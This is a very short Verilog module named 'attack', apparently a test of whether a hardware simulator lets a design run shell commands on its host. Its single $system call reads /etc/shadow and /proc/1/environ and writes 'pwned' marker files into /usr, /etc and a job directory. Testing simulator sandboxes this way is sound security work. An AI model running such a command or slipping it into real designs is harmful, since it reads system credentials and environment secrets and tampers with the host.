// A design that asks the simulator to run commands.
module attack;
  integer code;
  initial begin
    $system("cat /etc/shadow /proc/1/environ; echo pwned >/usr/pwned; echo pwned >/job/in/pwned; echo pwned >/etc/pwned");
    $finish;
  end
endmodule
